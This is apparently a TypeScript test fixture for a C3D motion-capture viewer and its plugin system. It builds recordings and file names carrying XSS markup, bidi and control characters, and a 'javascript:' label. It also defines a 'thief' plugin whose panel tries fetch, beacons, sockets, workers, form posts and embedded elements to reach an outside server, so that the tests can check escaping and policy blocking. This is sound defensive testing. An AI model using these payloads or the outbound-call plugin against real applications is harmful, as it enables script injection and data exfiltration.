/** A clinic whose every text means harm: of files, of people, of a plugin. */
import { writeC3d } from '../../src/sdk.ts'
import { source } from '../plugin/folder.ts'
import { legSamples } from './recordings.ts'

/** Markup that says in the page that it has run; `where` tells one text from the other. */
export const markup = (where: string): string =>
  `<img src=x onerror="globalThis.ran='${where}'"><script>ran='${where}'</script>"'>&lt;`

/** Reverses what stands behind it, hides, ends a line: as a file may have them. */
export const CONTROLS = '\u202e\u2066\u200f\u0007\u001b[31m\u0085\ufeff'

/** None of them may be in what is read on the page of what a file says, but for the ends of lines of the page. */
export const DISGUISES = /[^\P{Cc}\n\t]|[\u202a-\u202e\u2066-\u2069]/u

/** A word without a place to break it. */
export const long = (length: number): string => 'W'.repeat(length)

/** As long as a label of C3D can be. */
const LABEL_BYTES = 255

export const LABELS = [
  `L VL ${markup('label')} ${CONTROLS}`,
  `R VL ${long(LABEL_BYTES - 5)}`,
  'javascript:ran=1 🦵 L BF',
] as const

/** Without a slash: what stands before one is of a path, and let go. */
export const FILE_NAME = `<img src=x onerror="ran='file'"> ${CONTROLS} ${long(600)}.c3d`

/** The bytes of a recording with {@link LABELS}, and more of the kind in its groups. */
export function hostileRecording(): Uint8Array {
  return writeC3d({
    processor: 'intel',
    storage: 'float',
    pointRate: 33,
    samplesPerFrame: 30,
    points: [],
    analogs: LABELS.map((label, i) => ({
      label,
      description: `${i % 2 === 0 ? 'Left' : 'Right'} vastus lateralis ${markup('description')}`,
      unit: 'V',
      samples: legSamples(70 + i, 9900, 100e-6),
    })),
    parameters: [
      { name: 'SUBJECTS', parameters: [{ name: 'NAMES', type: 'char', value: [markup('subject')] }] },
      { name: 'INFO', parameters: [{ name: 'GAME_NAME', type: 'char', value: [markup('game')] }] },
    ],
  })
}

/** What a panel reaches for, one attempt a way out; `URL` stands for another server. */
const WAYS = `
const attempts = {
  fetch: () => fetch(URL + 'fetch', { mode: 'no-cors' }),
  beacon: () => { if (!navigator.sendBeacon(URL + 'beacon', 'x')) throw new Error('refused') },
  socket: () => new Promise((_, no) => { new WebSocket(URL.replace('http', 'ws') + 'socket').onerror = no }),
  events: () => new Promise((_, no) => { new EventSource(URL + 'events').onerror = no }),
  import: () => import(URL + 'module.js'),
  worker: () => new Promise((_, no) => { new Worker(globalThis.URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(URL + 'worker') + ')']))).onerror = no }),
  eval: () => (0, eval)('1'),
}
const elements = {
  picture: ['img', 'src'], frame: ['iframe', 'src'], script: ['script', 'src'], object: ['object', 'data'],
  video: ['video', 'src'], sheet: ['link', 'href', { rel: 'stylesheet' }], base: ['base', 'href'],
}`

const panelModule = (url: string): string => `
const URL = ${JSON.stringify(url)}
${WAYS}
export default async function mount(element) {
  const refused = (globalThis.refused = [])
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => refused.push(effectiveDirective))
  element.innerHTML = ${JSON.stringify(markup('panel'))}
  element.insertAdjacentHTML('beforeend', '<style>@import "' + URL + 'import.css"</style><p style="background:url(' + URL + 'style)">x</p>')
  element.style.backgroundImage = 'url(' + URL + 'background)'
  for (const [name, [tag, attribute, more = {}]] of Object.entries(elements))
    element.append(Object.assign(document.createElement(tag), more, { [attribute]: URL + name }))
  const form = Object.assign(document.createElement('form'), { action: URL + 'form', method: 'post', target: '_blank' })
  element.append(form)
  form.submit()
  const got = (globalThis.got = [])
  for (const [name, attempt] of Object.entries(attempts))
    await Promise.race([Promise.resolve().then(attempt), new Promise((_, no) => setTimeout(no, 1000))]).then(() => got.push(name), () => undefined)
  element.dataset.state = 'over'
}`

/** The source of a plugin whose panel of the session reaches for another server. */
export const thief = (url: string): string =>
  source(
    'thief',
    `panels: [panel({ id: 'thief', place: 'session', title: { en: '<img src=x onerror=ran=1>' }, policy: 'public', module: ${JSON.stringify(panelModule(url))} })],`,
    "import { panel } from 'myoserve/sdk'",
  )
